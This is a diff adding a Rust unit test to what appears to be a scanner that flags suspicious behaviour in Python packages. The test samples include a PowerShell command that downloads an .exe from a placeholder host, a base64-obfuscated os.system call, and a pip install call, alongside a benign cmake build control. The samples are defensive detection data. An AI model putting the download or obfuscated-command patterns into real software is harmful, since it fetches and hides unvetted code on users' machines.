@@ -179,3 +179,16 @@ fn whitespace_alone_is_not_hidden_code() {
     let art = format!("x = 1{}# a comment\nprint('{}|')\n", " ".repeat(200), " ".repeat(200));
     assert!(!rules("pkg/art.py", &art, Context::Module).contains(&"py-hidden-code".to_string()));
 }
+
+#[test]
+fn commands_that_download_or_hide() {
+    let code = "import subprocess\nsubprocess.Popen('powershell -command Invoke-WebRequest -Uri https://example.invalid/a.exe -OutFile a.exe', shell=True)\n";
+    assert!(setup(code).contains(&"py-install-download-exec".to_string()), "{:?}", setup(code));
+    let code = "import os, base64\ndef b64d(s):\n    return base64.b64decode(s).decode()\nos.system(b64d('bm90ZXBhZAo='))\n";
+    assert!(setup(code).contains(&"py-hidden-command".to_string()), "{:?}", setup(code));
+    let code = "import os, sys\nos.system(f'{sys.executable} -m pip install somepkg')\n";
+    assert!(setup(code).contains(&"py-install-pip-install".to_string()), "{:?}", setup(code));
+    // Build commands are not downloads.
+    let code = "import subprocess\nsubprocess.check_call(['cmake', '--build', '.'])\n";
+    assert_eq!(setup(code), vec!["py-install-process".to_string()]);
+}
